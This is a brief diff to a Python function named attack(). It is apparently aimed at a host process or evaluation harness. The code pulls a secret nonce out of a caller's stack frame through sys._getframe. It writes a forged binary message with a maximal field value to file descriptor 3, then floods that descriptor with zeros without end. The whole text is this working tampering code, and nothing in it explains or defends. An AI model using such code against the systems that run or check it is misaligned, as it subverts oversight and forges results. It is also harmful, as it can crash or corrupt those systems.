@@ -4,7 +4,7 @@ import sys
 import numpy as np
 
 def attack():
-    nonce = sys._getframe(3).f_locals["nonce"]
+    nonce = sys._getframe(3).f_locals["request"].nonce
     os.write(3, struct.pack("<QBBQdI", nonce, 0, 0, 0, 0.0, 0xFFFFFFFF))
     while True:
         os.write(3, bytes(65536))
